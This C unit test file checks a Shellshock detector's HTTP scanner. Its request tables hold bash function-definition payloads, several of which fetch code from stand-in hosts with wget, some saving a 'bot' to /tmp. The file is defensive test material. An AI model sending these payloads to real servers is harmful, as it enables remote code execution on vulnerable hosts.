/*
 * test_http.c - the HTTP prefilter and request scanner (ss_http.c).
 *
 * One table row per place a value starts (GRADING.md §2), one per
 * negative the contract names, then hostile input.  Every request is
 * copied into an exactly-sized heap buffer: no NUL after it, so ASan sees
 * any read past the end.  Each row also checks that the prefilter lets
 * the request through whenever the scanner finds something.
 */
#include <stdlib.h>

#include "ss.h"
#include "ss_decode.h"
#include "unit.h"

static ss_rules_t *rules;
static ss_result_t res;

typedef struct {
    ss_vector_t vector;
    const char *header; /* NULL when not http.header */
    const char *payload;
    unsigned cves;
} want_t;

typedef struct {
    const char *name;
    const char *req;
    size_t n;         /* payloads expected */
    want_t want[3];
    unsigned problems; /* request-level bits that must be set */
} http_case_t;

#define UA_NIKTO "() { :; }; echo 93e4r0-CVE-2014-6271: true;echo;echo;"
#define REF_NIKTO "() { _; } >_[$($())] { echo 93e4r0-CVE-2014-6278: true; echo;echo; }"
#define C6271 SS_CVE_2014_6271
#define C6278 (SS_CVE_2014_6271 | SS_CVE_2014_6278)
#define HDR SS_VEC_HTTP_HEADER
#define URI SS_VEC_HTTP_URI
#define BODY SS_VEC_HTTP_BODY

static const http_case_t positive_cases[] = {
    {"Nikto User-Agent",
     "GET /cgi-bin/test.cgi HTTP/1.1\r\nHost: 10.0.0.1\r\nUser-Agent: " UA_NIKTO
     "\r\nAccept: */*\r\n\r\n",
     1, {{HDR, "User-Agent", UA_NIKTO, C6271}}, 0},
    {"Nikto Referer 6278",
     "GET / HTTP/1.1\r\nHost: x\r\nReferer: " REF_NIKTO "\r\n\r\n",
     1, {{HDR, "Referer", REF_NIKTO, C6278}}, 0},
    {"two headers, two payloads",
     "GET /cgi-bin/status HTTP/1.0\r\nUser-Agent: " UA_NIKTO "\r\nReferer: " REF_NIKTO "\r\n\r\n",
     2, {{HDR, "User-Agent", UA_NIKTO, C6271}, {HDR, "Referer", REF_NIKTO, C6278}}, 0},
    {"any header name, no blanks, name as written",
     "GET / HTTP/1.1\r\naccept:(){ :; }; /bin/echo hi\r\n\r\n",
     1, {{HDR, "accept", "(){ :; }; /bin/echo hi", C6271}}, 0},
    {"header value trimmed, custom header",
     "GET / HTTP/1.1\r\nX-Forwarded-For: \t () { :;};  echo x \t\r\n\r\n",
     1, {{HDR, "X-Forwarded-For", "() { :;};  echo x", C6271}}, 0},
    {"Host header",
     "GET / HTTP/1.1\r\nHost: () { :;}; ping -c 1 1.2.3.4\r\n\r\n",
     1, {{HDR, "Host", "() { :;}; ping -c 1 1.2.3.4", C6271}}, 0},
    {"cookie value keeps the rest of the header",
     "GET / HTTP/1.1\r\nCookie: lang=en; sid=() { :;}; wget http://1.2.3.4/x; b=1\r\n\r\n",
     1, {{HDR, "Cookie", "() { :;}; wget http://1.2.3.4/x; b=1", C6271}}, 0},
    {"cookie header itself opens: one payload for the header",
     "GET / HTTP/1.1\r\ncookie: () { :;}; a=() { :;}; echo\r\n\r\n",
     1, {{HDR, "cookie", "() { :;}; a=() { :;}; echo", C6271}}, 0},
    {"two cookie payloads: one enclosure",
     "GET / HTTP/1.1\r\nCookie: a=() { :;}; echo; b=() { :;}; wget x\r\n\r\n",
     1, {{HDR, "Cookie", "() { :;}; echo; b=() { :;}; wget x", C6271}}, 0},
    {"query parameter, raw blanks",
     "GET /cgi-bin/x.cgi?x=() {_;} HTTP/1.1\r\nHost: h\r\n\r\n",
     1, {{URI, NULL, "() {_;}", C6271}}, 0},
    {"query parameter, percent-encoded",
     "GET /cgi-bin/x.cgi?a=1&x=%28%29%20%7B%20%3A%3B%7D%3B%20echo%20hi&b=2 HTTP/1.1\r\n\r\n",
     1, {{URI, NULL, "() { :;}; echo hi", C6271}}, 0},
    {"query '+' is a space",
     "GET /x?a=()+{+:;};+echo+a%2Bb HTTP/1.1\r\n\r\n",
     1, {{URI, NULL, "() { :;}; echo a+b", C6271}}, 0},
    {"whole query: QUERY_STRING, counted once",
     "GET /cgi-bin/x?() { :;}; echo HTTP/1.1\r\n\r\n",
     1, {{URI, NULL, "() { :;}; echo", C6271}}, 0},
    {"whole query encoded, fragment cut",
     "GET /x?%28%29%20%7B%20%3A%3B%7D%3B%20echo#() { :;} HTTP/1.1\r\n\r\n",
     1, {{URI, NULL, "() { :;}; echo", C6271}}, 0},
    {"whole query and a parameter: two enclosures",
     "GET /x?() { :;}; x=() { :;}; wget y HTTP/1.1\r\n\r\n",
     2, {{URI, NULL, "() { :;}; x=() { :;}; wget y", C6271}, {URI, NULL, "() { :;}; wget y", C6271}},
     0},
    {"path segment, percent-decoded after splitting",
     "GET /cgi-bin/%28%29%20%7B%20%3A%3B%20%7D%3B%20echo%20a%2Fb/x.cgi HTTP/1.1\r\n\r\n",
     1, {{URI, NULL, "() { :; }; echo a/b", C6271}}, 0},
    {"absolute-form target",
     "GET http://victim.example:8080/cgi-bin/%28%29%20%7B%20%3A%3B%20%7D%3B%20echo HTTP/1.1\r\n\r\n",
     1, {{URI, NULL, "() { :; }; echo", C6271}}, 0},
    {"plain body",
     "POST /cgi-bin/x HTTP/1.1\r\nContent-Type: text/plain\r\nContent-Length: 31\r\n\r\n"
     "() { :;}; /usr/bin/id; uname -a",
     1, {{BODY, NULL, "() { :;}; /usr/bin/id; uname -a", C6271}}, 0},
    {"form body parameter",
     "POST /cgi-bin/login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
     "Content-Length: 82\r\n\r\n"
     "a=1&cmd=%28%29+%7B+%3A%3B+%7D%3B+wget+http%3A%2F%2Fe.com%2Fx&b=2&c=(not)+{a+payload}",
     1, {{BODY, NULL, "() { :; }; wget http://e.com/x", C6271}}, 0},
    {"form body that is itself the payload, counted once",
     "POST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded; charset=UTF-8\r\n\r\n"
     "()+{+:;};+echo=1",
     1, {{BODY, NULL, "() { :;}; echo=1", C6271}}, 0},
    {"JSON string values, not keys, read raw",
     "POST /api HTTP/1.1\r\nContent-Type: application/json\r\n\r\n"
     "{\"() { :;}; key\": \"() { :;}; echo a\", \"k\": [\"x\", \"() { :; }; echo \\\"b\\\"\"]}",
     2, {{BODY, NULL, "() { :;}; echo a", C6271}, {BODY, NULL, "() { :; }; echo \\\"b\\\"", C6271}},
     0},
    {"JSON sniffed from the first byte",
     "POST /api HTTP/1.1\r\nContent-Type: text/plain\r\n\r\n  [ \"() { :;}; wget http://e.com/x\" ]",
     1, {{BODY, NULL, "() { :;}; wget http://e.com/x", C6271}}, 0},
    {"JSON by +json media type",
     "PUT /api HTTP/1.1\r\nContent-Type: application/vnd.api+json\r\n\r\n"
     "\"a\": \"() { :;}; echo\"",
     1, {{BODY, NULL, "() { :;}; echo", C6271}}, 0},
    {"chunked body",
     "POST /cgi-bin/x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
     "5\r\n() { \r\n9;ext=1\r\n:;}; echo\r\n3\n hi\n0\r\n\r\n",
     1, {{BODY, NULL, "() { :;}; echo hi", C6271}}, 0},
    {"chunked form body",
     "POST / HTTP/1.1\r\nTransfer-Encoding: gzip, Chunked\r\n"
     "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
     "c\r\nx=%28%29+%7B\r\n3\r\n_%7\r\n1\r\nD\r\n0\r\n\r\n",
     1, {{BODY, NULL, "() {_}", C6271}}, 0},
    {"folded header joined",
     "GET / HTTP/1.1\r\nUser-Agent: Mozilla\r\nX-Foo: (\r\n ) {\r\n\t:;}; echo\r\nAccept: */*\r\n\r\n",
     1, {{HDR, "X-Foo", "( ) { :;}; echo", C6271}}, SS_PROB_FOLDED_HEADER},
    {"folded right after the colon",
     "GET / HTTP/1.1\r\nUser-Agent:\r\n () { :;}; echo\r\n\r\n",
     1, {{HDR, "User-Agent", "() { :;}; echo", C6271}}, SS_PROB_FOLDED_HEADER},
    {"LF-only line ends",
     "GET /x?y=() { :;}; echo HTTP/1.1\nUser-Agent: () { :;}; echo\n\n",
     2, {{URI, NULL, "() { :;}; echo", C6271}, {HDR, "User-Agent", "() { :;}; echo", C6271}}, 0},
    {"URI, header and body in order",
     "POST /a/%28%29%7B%3A%3B%7D HTTP/1.1\r\nUser-Agent: () { :;}; echo\r\nContent-Length: 8\r\n\r\n"
     "(){:;};x",
     3, {{URI, NULL, "(){:;}", C6271}, {HDR, "User-Agent", "() { :;}; echo", C6271},
         {BODY, NULL, "(){:;};x", C6271}}, 0},
    {"empty lines before the request line",
     "\r\n\r\nGET / HTTP/1.1\r\nUser-Agent: () { :;}; echo\r\n\r\n",
     1, {{HDR, "User-Agent", "() { :;}; echo", C6271}}, 0},
    {"quoted value",
     "GET / HTTP/1.1\r\nX-Api: \"() { :;}; echo hi\"\r\n\r\n",
     1, {{HDR, "X-Api", "\"() { :;}; echo hi\"", C6271}}, 0},
    {"7169 in a header",
     "GET / HTTP/1.1\r\nUser-Agent: () { (a)=>\\' /bin/bash -c 'wget http://e.com/x'\r\n\r\n",
     1, {{HDR, "User-Agent", "() { (a)=>\\' /bin/bash -c 'wget http://e.com/x'", SS_CVE_2014_7169}},
     0},
};

static const http_case_t negative_cases[] = {
    {"Chrome GET",
     "GET /index.html?q=shell+shock&lang=en HTTP/1.1\r\nHost: www.example.com\r\n"
     "Connection: keep-alive\r\nUpgrade-Insecure-Requests: 1\r\n"
     "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
     "Gecko) Chrome/120.0.0.0 Safari/537.36\r\n"
     "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8\r\n"
     "Accept-Encoding: gzip, deflate, br\r\nAccept-Language: en-US,en;q=0.9\r\n"
     "Cookie: _ga=GA1.2.3.4; session=abc%28def%29\r\n\r\n",
     0, {{0}}, 0},
    {"Firefox GET",
     "GET /a/b(c)/d HTTP/1.1\r\nHost: example.org\r\n"
     "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0\r\n"
     "Accept: */*\r\nReferer: https://example.org/wiki/Bash_(Unix_shell)\r\n"
     "Sec-Fetch-Mode: cors\r\n\r\n",
     0, {{0}}, 0},
    {"curl POST form",
     "POST /login HTTP/1.1\r\nHost: h\r\nUser-Agent: curl/8.4.0\r\nAccept: */*\r\n"
     "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 31\r\n\r\n"
     "user=alice&pass=%28secret%29+{x}",
     0, {{0}}, 0},
    {"JSON POST",
     "POST /api/v1/items HTTP/1.1\r\nContent-Type: application/json\r\n\r\n"
     "{\"name\": \"f() { x }\", \"list\": [1, 2, {\"a\": \"(b) {c}\"}], \"n\": null}",
     0, {{0}}, 0},
    {"JavaScript body",
     "POST /upload HTTP/1.1\r\nContent-Type: application/javascript\r\n\r\n"
     "var f = function() { return 1; };\n(function () { f(); })();\n",
     0, {{0}}, 0},
    {"JSON \\u escapes are not decoded (GRADING.md §1: raw)",
     "POST /api HTTP/1.1\r\nContent-Type: application/json\r\n\r\n"
     "{\"cmd\": \"\\u0028\\u0029 \\u007b :;}; id\", \"b\": \"\\n() { :;}; id\"}",
     0, {{0}}, 0},
    {"JSON-looking plain body with \\u escapes",
     "POST /api HTTP/1.1\r\nContent-Type: text/plain\r\n\r\n[\"\\u0028\\u0029 { :;}; id\"]",
     0, {{0}}, 0},
    {"GraphQL body",
     "POST /graphql HTTP/1.1\r\nContent-Type: application/json\r\n\r\n"
     "{\"query\":\"query { viewer() { login } }\"}",
     0, {{0}}, 0},
    {"Referer with (see below) {",
     "GET / HTTP/1.1\r\nReferer: http://x/notes (see below) {\r\n\r\n",
     0, {{0}}, 0},
    {"shell script body with functions not at a value start",
     "PUT /scripts/install.sh HTTP/1.1\r\nContent-Type: text/x-shellscript\r\n\r\n"
     "#!/bin/sh\nmain () {\n  echo hi\n}\ncleanup() { rm -f /tmp/x; }\nmain\n",
     0, {{0}}, 0},
    {"HTTP response",
     "HTTP/1.1 200 OK\r\nX-Test: () { :;}; echo\r\nContent-Length: 14\r\n\r\n() { :;}; echo",
     0, {{0}}, 0},
    {"opener in a header name only",
     "GET / HTTP/1.1\r\n() { :;}; echo: x\r\n\r\n",
     0, {{0}}, 0},
    {"query parameter without '=' (not a value start)",
     "GET /x?a=1&() { :;}; echo HTTP/1.1\r\n\r\n",
     0, {{0}}, 0},
    {"header without a colon",
     "GET / HTTP/1.1\r\n() { :;}; echo\r\n\r\n",
     0, {{0}}, 0},
    {"body beyond Content-Length (next request's business)",
     "POST / HTTP/1.1\r\nContent-Length: 3\r\n\r\nabc() { :;}; echo",
     0, {{0}}, 0},
    {"opener cut in two by chunk framing (known gap, same in the prefilter)",
     "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n1\r\n(\r\n3\r\n) {\r\n0\r\n\r\n",
     0, {{0}}, 0},
    {"cookie name, not value",
     "GET / HTTP/1.1\r\nCookie: () { :;}=1\r\n\r\n",
     1, {{HDR, "Cookie", "() { :;}=1", C6271}}, 0}, /* the header value itself opens */
};

/* Runs ss_scan_http_request on an exact-size copy of req[0..n). */
static size_t scan_n(const char *req, size_t n, bool *prefilter)
{
    uint8_t *copy = malloc(n ? n : 1);
    memcpy(copy, req, n);
    *prefilter = ss_http_may_contain(copy, n);
    size_t got = ss_scan_http_request(rules, copy, n, &res);
    for (size_t i = 0; i < res.n_payloads; i++) {
        const ss_payload_t *p = &res.payloads[i];
        CU_ASSERT(p->raw_offset <= n && p->raw_len <= n - p->raw_offset);
    }
    free(copy);
    return got;
}

static void check_case(const http_case_t *c)
{
    bool prefilter;
    size_t got = scan_n(c->req, strlen(c->req), &prefilter);
    if (got != c->n)
        fprintf(stderr, "\n  case \"%s\": %zu payloads, want %zu\n", c->name, got, c->n);
    CU_ASSERT_EQUAL(got, c->n);
    CU_ASSERT_EQUAL(res.n_payloads, got);
    if (got > 0) {
        if (!prefilter)
            fprintf(stderr, "\n  case \"%s\": prefilter rejected it\n", c->name);
        CU_ASSERT(prefilter);
    }
    for (size_t i = 0; i < got && i < c->n; i++) {
        const ss_payload_t *p = &res.payloads[i];
        const want_t *w = &c->want[i];
        CU_ASSERT_EQUAL(p->vector, w->vector);
        if (w->header)
            HS_ASSERT_STR(p->header, w->header);
        else
            CU_ASSERT_PTR_NULL(p->header);
        HS_ASSERT_STR(p->payload, w->payload);
        CU_ASSERT_EQUAL(p->payload_len, strlen(w->payload));
        if (p->cves != w->cves)
            fprintf(stderr, "\n  case \"%s\" #%zu: cves %#x want %#x\n", c->name, i, p->cves,
                    w->cves);
        CU_ASSERT_EQUAL(p->cves, w->cves);
    }
    if ((res.problems & c->problems) != c->problems)
        fprintf(stderr, "\n  case \"%s\": problems %#x want %#x\n", c->name, res.problems,
                c->problems);
    CU_ASSERT_EQUAL(res.problems & c->problems, c->problems);
}

static void test_positive_cases(void)
{
    for (size_t i = 0; i < sizeof(positive_cases) / sizeof(positive_cases[0]); i++)
        check_case(&positive_cases[i]);
}

static void test_negative_cases(void)
{
    for (size_t i = 0; i < sizeof(negative_cases) / sizeof(negative_cases[0]); i++)
        check_case(&negative_cases[i]);
}

/* The ordinary requests must not even pass the prefilter. */
static void test_prefilter_ordinary(void)
{
    for (size_t i = 0; i < 3; i++) {
        const char *r = negative_cases[i].req;
        if (ss_http_may_contain((const uint8_t *)r, strlen(r)))
            fprintf(stderr, "\n  prefilter let \"%s\" through\n", negative_cases[i].name);
        CU_ASSERT_FALSE(ss_http_may_contain((const uint8_t *)r, strlen(r)));
    }
}

typedef struct {
    const char *text;
    bool want;
} prefilter_case_t;

static const prefilter_case_t prefilter_cases[] = {
    {"() {", true},
    {"()", true},
    {"( \t\r\n)", true},
    {"(+)", true},
    {"%28%29", true},
    {"%28)", true},
    {"(%29", true},
    {"%28%20%09%0a%0D+%29", true},
    {"\\u0028\\u0029", false}, /* JSON escapes are not decoded */
    {"\\u0028\\n\\t\\r\\u0020)", false},
    {"x=(\r\n )", true},
    {"(((((()", true},
    {"%28%2", false},
    {"", false},
    {"(", false},
    {"%28", false},
    {"%2", false},
    {"\\u002", false},
    {"(X11; Linux x86_64)", false},
    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64)", false},
    {"( x )", false},
    {")(", false},
    {"(%2B)", false}, /* %2B is a literal plus, not a blank */
    {"\\u0028x\\u0029", false},
    {"%%28%", false},
    {"(\\", false},
};

static void test_prefilter_table(void)
{
    for (size_t i = 0; i < sizeof(prefilter_cases) / sizeof(prefilter_cases[0]); i++) {
        const prefilter_case_t *c = &prefilter_cases[i];
        size_t n = strlen(c->text);
        uint8_t *copy = malloc(n ? n : 1);
        memcpy(copy, c->text, n);
        bool got = ss_http_may_contain(copy, n);
        if (got != c->want)
            fprintf(stderr, "\n  prefilter \"%s\": got %d\n", c->text, got);
        CU_ASSERT_EQUAL(got, c->want);
        free(copy);
    }
    CU_ASSERT_FALSE(ss_http_may_contain(NULL, 0));
}

/* ---- raw offsets ---- */

static size_t offset_of(const char *req, const char *needle)
{
    return (size_t)(strstr(req, needle) - req);
}

static void test_raw_offsets(void)
{
    bool pf;
    const char *r1 = positive_cases[0].req; /* Nikto User-Agent */
    scan_n(r1, strlen(r1), &pf);
    CU_ASSERT_EQUAL_FATAL(res.n_payloads, 1);
    CU_ASSERT_EQUAL(res.payloads[0].raw_offset, offset_of(r1, "() {"));
    CU_ASSERT_EQUAL(res.payloads[0].raw_len, strlen(UA_NIKTO));

    const char *r2 = "GET / HTTP/1.1\r\nCookie: a=b; sid=() { :;}; echo\r\n\r\n";
    scan_n(r2, strlen(r2), &pf);
    CU_ASSERT_EQUAL_FATAL(res.n_payloads, 1);
    CU_ASSERT_EQUAL(res.payloads[0].raw_offset, offset_of(r2, "() {"));
    CU_ASSERT_EQUAL(res.payloads[0].raw_len, strlen("() { :;}; echo"));

    const char *r3 = "GET /x?a=1&x=%28%29%20%7B_%3B%7D&b=2 HTTP/1.1\r\n\r\n";
    scan_n(r3, strlen(r3), &pf);
    CU_ASSERT_EQUAL_FATAL(res.n_payloads, 1);
    CU_ASSERT_EQUAL(res.payloads[0].raw_offset, offset_of(r3, "%28"));
    CU_ASSERT_EQUAL(res.payloads[0].raw_len, strlen("%28%29%20%7B_%3B%7D"));

    const char *r4 = "GET /a/%28%29%7B_%3B%7D/b HTTP/1.1\r\n\r\n";
    scan_n(r4, strlen(r4), &pf);
    CU_ASSERT_EQUAL_FATAL(res.n_payloads, 1);
    CU_ASSERT_EQUAL(res.payloads[0].raw_offset, offset_of(r4, "%28"));
    CU_ASSERT_EQUAL(res.payloads[0].raw_len, strlen("%28%29%7B_%3B%7D"));

    const char *r5 = "GET /?() { :;} HTTP/1.1\r\n\r\n";
    scan_n(r5, strlen(r5), &pf);
    CU_ASSERT_EQUAL_FATAL(res.n_payloads, 1);
    CU_ASSERT_EQUAL(res.payloads[0].raw_offset, offset_of(r5, "() {"));
    CU_ASSERT_EQUAL(res.payloads[0].raw_len, strlen("() { :;}"));

    const char *r6 = "POST / HTTP/1.1\r\n\r\n{\"a\": \"x\", \"b\": \"() { :;}; echo\"}";
    scan_n(r6, strlen(r6), &pf);
    CU_ASSERT_EQUAL_FATAL(res.n_payloads, 1);
    CU_ASSERT_EQUAL(res.payloads[0].raw_offset, offset_of(r6, "() {"));
    CU_ASSERT_EQUAL(res.payloads[0].raw_len, strlen("() { :;}; echo"));

    /* Decoded elsewhere (chunked, folded): the whole raw source is pointed at. */
    const char *r7 = "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
                     "4\r\n() {\r\n4\r\n:;};\r\n0\r\n\r\n";
    scan_n(r7, strlen(r7), &pf);
    CU_ASSERT_EQUAL_FATAL(res.n_payloads, 1);
    HS_ASSERT_STR(res.payloads[0].payload, "() {:;};");
    CU_ASSERT_EQUAL(res.payloads[0].raw_offset, offset_of(r7, "4\r\n() {"));
    CU_ASSERT_EQUAL(res.payloads[0].raw_len, strlen("4\r\n() {\r\n4\r\n:;};\r\n0\r\n\r\n"));

    const char *r8 = "GET / HTTP/1.1\r\nX: () {\r\n :;}\r\n\r\n";
    scan_n(r8, strlen(r8), &pf);
    CU_ASSERT_EQUAL_FATAL(res.n_payloads, 1);
    CU_ASSERT_EQUAL(res.payloads[0].raw_offset, offset_of(r8, " () {"));
    CU_ASSERT_EQUAL(res.payloads[0].raw_len, strlen(" () {\r\n :;}"));
    CU_ASSERT(res.payloads[0].problems & SS_PROB_FOLDED_HEADER);
}

/* ---- grades that leave no doubt ---- */

static void test_simple_grades(void)
{
    bool pf;
    const char *green = positive_cases[0].req;
    scan_n(green, strlen(green), &pf);
    CU_ASSERT_EQUAL(res.max_grade, SS_GRADE_GREEN);
    const char *red = "GET / HTTP/1.1\r\nCookie: sid=() { :;}; wget http://1.2.3.4/bot -O /tmp/b\r\n"
                      "User-Agent: " UA_NIKTO "\r\n\r\n";
    scan_n(red, strlen(red), &pf);
    CU_ASSERT_EQUAL_FATAL(res.n_payloads, 2);
    CU_ASSERT_EQUAL(res.payloads[0].grade, SS_GRADE_RED);
    CU_ASSERT_EQUAL(res.payloads[1].grade, SS_GRADE_GREEN);
    CU_ASSERT_EQUAL(res.max_grade, SS_GRADE_RED);
    CU_ASSERT(res.payloads[0].n_commands >= 1);
    if (res.payloads[0].n_commands >= 1)
        HS_ASSERT_STR(res.payloads[0].commands[0], "wget");
}

/* ---- hostile input ---- */

static void test_truncated(void)
{
    bool pf;
    const char *r1 = "GET /x?a=() { :;}; echo";
    CU_ASSERT_EQUAL(scan_n(r1, strlen(r1), &pf), 1);
    HS_ASSERT_STR(res.payloads[0].payload, "() { :;}; echo");
    const char *r2 = "GET / HTTP/1.1\r\nUser-Agent: () { :;}; ec";
    CU_ASSERT_EQUAL(scan_n(r2, strlen(r2), &pf), 1);
    HS_ASSERT_STR(res.payloads[0].payload, "() { :;}; ec");
    /* Every prefix of a rich request: in bounds, never more than the whole. */
    const char *full = positive_cases[28].req; /* URI, header and body */
    for (size_t n = 0; n <= strlen(full); n++) {
        size_t got = scan_n(full, n, &pf);
        CU_ASSERT(got <= 3);
        CU_ASSERT(got == 0 || pf);
    }
}

static void test_nul_bytes(void)
{
    bool pf;
    const char r[] = "GET / HTTP/1.1\r\nUser-Agent: () { :;}; echo \0 hi\r\nX: \0() {\r\n\r\n";
    CU_ASSERT_EQUAL(scan_n(r, sizeof(r) - 1, &pf), 1);
    CU_ASSERT_EQUAL(res.payloads[0].payload_len, strlen("() { :;}; echo ") + 4);
    CU_ASSERT(res.payloads[0].problems & SS_PROB_NUL_IN_VALUE);
    const char q[] = "GET /?x=%28%29%20%7B%3A%3B%7D%3B%00echo HTTP/1.1\r\n\r\n";
    CU_ASSERT_EQUAL(scan_n(q, sizeof(q) - 1, &pf), 1);
    CU_ASSERT_EQUAL(res.payloads[0].payload_len, 13);
    CU_ASSERT(res.payloads[0].problems & SS_PROB_NUL_IN_VALUE);
}

/* Builds "GET / HTTP/1.1\r\n" + count headers, the one at index at being
 * the payload. */
static char *many_headers(size_t count, size_t at)
{
    char *r = malloc(64 + count * 48);
    size_t n = (size_t)sprintf(r, "GET / HTTP/1.1\r\n");
    for (size_t i = 0; i < count; i++)
        n += (size_t)sprintf(r + n, i == at ? "X-%zu: () { :;}; echo\r\n" : "X-%zu: v\r\n", i);
    sprintf(r + n, "\r\n");
    return r;
}

static void test_header_caps(void)
{
    bool pf;
    char *r = many_headers(1000, 10);
    CU_ASSERT_EQUAL(scan_n(r, strlen(r), &pf), 1);
    CU_ASSERT(res.problems & SS_PROB_TOO_MANY_VALUES);
    free(r);
    r = many_headers(1000, 900);
    CU_ASSERT_EQUAL(scan_n(r, strlen(r), &pf), 0);
    CU_ASSERT(res.problems & SS_PROB_TOO_MANY_VALUES);
    free(r);
    r = many_headers(SS_MAX_HTTP_HEADERS, SS_MAX_HTTP_HEADERS - 1);
    CU_ASSERT_EQUAL(scan_n(r, strlen(r), &pf), 1);
    CU_ASSERT_EQUAL(res.problems & SS_PROB_TOO_MANY_VALUES, 0);
    free(r);
}

static void test_payload_cap(void)
{
    bool pf;
    char *r = many_headers(40, 1000);
    /* Make every header a payload. */
    char *big = malloc(40 * 64 + 64);
    size_t n = (size_t)sprintf(big, "GET / HTTP/1.1\r\n");
    for (int i = 0; i < 40; i++)
        n += (size_t)sprintf(big + n, "X-%d: () { :;}; wget http://e.com/%d\r\n", i, i);
    sprintf(big + n, "\r\n");
    CU_ASSERT_EQUAL(scan_n(big, strlen(big), &pf), SS_MAX_PAYLOADS);
    CU_ASSERT(res.problems & SS_PROB_TOO_MANY_PAYLOADS);
    HS_ASSERT_STR(res.payloads[SS_MAX_PAYLOADS - 1].header, "X-15");
    free(big);
    free(r);
}

static void test_value_cap(void)
{
    bool pf;
    size_t params = SS_MAX_HTTP_VALUES + 10;
    char *r = malloc(params * 4 + 128);
    size_t n = (size_t)sprintf(r, "GET /?");
    for (size_t i = 0; i < params; i++)
        n += (size_t)sprintf(r + n, "a=&");
    n += (size_t)sprintf(r + n, "x=() { :;} HTTP/1.1\r\n\r\n");
    CU_ASSERT_EQUAL(scan_n(r, n, &pf), 0);
    CU_ASSERT(res.problems & SS_PROB_TOO_MANY_VALUES);
    free(r);
}

static void test_bad_percent(void)
{
    bool pf;
    const char *r = "GET /?a=%28%29%20%7B%3A%3B%7D;%zz%4 HTTP/1.1\r\n\r\n";
    CU_ASSERT_EQUAL(scan_n(r, strlen(r), &pf), 1);
    HS_ASSERT_STR(res.payloads[0].payload, "() {:;};%zz%4");
    CU_ASSERT(res.payloads[0].problems & SS_PROB_BAD_PERCENT);
    const char *ok = "GET /?a=%28%29%20%7B%3A%3B%7D HTTP/1.1\r\n\r\n";
    CU_ASSERT_EQUAL(scan_n(ok, strlen(ok), &pf), 1);
    CU_ASSERT_EQUAL(res.payloads[0].problems & SS_PROB_BAD_PERCENT, 0);
    const char *lone = "GET /%?%&%=% HTTP/1.1\r\n\r\n";
    CU_ASSERT_EQUAL(scan_n(lone, strlen(lone), &pf), 0);
}

static void test_body_truncated(void)
{
    bool pf;
    const char *r = "POST / HTTP/1.1\r\nContent-Length: 5000\r\n\r\n() { :;}; echo";
    CU_ASSERT_EQUAL(scan_n(r, strlen(r), &pf), 1);
    HS_ASSERT_STR(res.payloads[0].payload, "() { :;}; echo");
    CU_ASSERT(res.problems & SS_PROB_BODY_TRUNCATED);
    const char *c = "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n100\r\n() { :;}; echo";
    CU_ASSERT_EQUAL(scan_n(c, strlen(c), &pf), 1);
    HS_ASSERT_STR(res.payloads[0].payload, "() { :;}; echo");
    CU_ASSERT(res.problems & SS_PROB_BODY_TRUNCATED);
    const char *huge = "POST / HTTP/1.1\r\nContent-Length: 99999999999999999999999999\r\n\r\n() {}";
    CU_ASSERT_EQUAL(scan_n(huge, strlen(huge), &pf), 1);
    CU_ASSERT(res.problems & SS_PROB_BODY_TRUNCATED);
    const char *bad = "POST / HTTP/1.1\r\nContent-Length: 1x\r\n\r\n() {}"; /* ignored: rest */
    CU_ASSERT_EQUAL(scan_n(bad, strlen(bad), &pf), 1);
}

static void test_unbalanced(void)
{
    bool pf;
    const char *r = "GET / HTTP/1.1\r\nUser-Agent: () { { { :; \"}}}\r\nX: }}}() {\r\n\r\n";
    CU_ASSERT_EQUAL(scan_n(r, strlen(r), &pf), 1);
    CU_ASSERT_EQUAL(res.payloads[0].cves, 0);
    CU_ASSERT(res.payloads[0].problems & SS_PROB_UNCLOSED_BODY);
}

/* Scanner work (ss_work_steps, bytes its loops visit) for req[0..n);
 * also checks the payload count and the prefilter's answer. */
static unsigned long long work_of(const char *req, size_t n, size_t want_payloads, bool want_pf)
{
    bool pf;
    unsigned long long before = ss_work_steps;
    size_t got = scan_n(req, n, &pf);
    unsigned long long work = ss_work_steps - before;
    if (got != want_payloads || pf != want_pf)
        fprintf(stderr, "\n  %zu payloads, prefilter %d\n", got, pf);
    CU_ASSERT_EQUAL(got, want_payloads);
    CU_ASSERT_EQUAL(pf, want_pf);
    return work;
}

/* Bytes visited per input byte, at most: each loop walks its span once or
 * a few times (prefilter, line split, opener check, copy). */
#define WORK_PER_BYTE 12

/* Work on the request built by fill(buf, n) at size n and 2n: bounded per
 * byte, and doubling the input at most doubles it (plus a little).  A
 * quadratic scan fails both. */
static void assert_linear(void (*fill)(char *, size_t), size_t n, size_t want_payloads,
                          bool want_pf, const char *what)
{
    char *r = malloc(2 * n);
    fill(r, n);
    unsigned long long w1 = work_of(r, n, want_payloads, want_pf);
    fill(r, 2 * n);
    unsigned long long w2 = work_of(r, 2 * n, want_payloads, want_pf);
    if (getenv("HS_SHOW_WORK") || w1 > WORK_PER_BYTE * (unsigned long long)n || w2 > 2 * w1 + 4096)
        fprintf(stderr, "\n  %s: work %llu at %zu bytes, %llu at %zu\n", what, w1, n, w2, 2 * n);
    CU_ASSERT(w1 >= n); /* the counter counts: every byte is looked at */
    CU_ASSERT(w1 <= WORK_PER_BYTE * (unsigned long long)n);
    CU_ASSERT(w2 <= 2 * w1 + 4096);
    free(r);
}

/* A header of blanks and parentheses, no ')' anywhere. */
static void fill_parens(char *r, size_t n)
{
    memcpy(r, "GET / HTTP/1.1\r\nX: ", 19);
    for (size_t i = 19; i < n; i++)
        r[i] = "( %20+"[i % 6];
}

/* Endless folded lines: one header that never ends. */
static void fill_folded(char *r, size_t n)
{
    memcpy(r, "GET / HTTP/1.1\r\nX: (", 20);
    for (size_t i = 20; i < n; i++)
        r[i] = "\r\n "[(i - 20) % 3];
}

/* A query of '%' and '(' */
static void fill_query(char *r, size_t n)
{
    memcpy(r, "GET /?", 6);
    for (size_t i = 6; i < n; i++)
        r[i] = "%(=&"[i % 4];
}

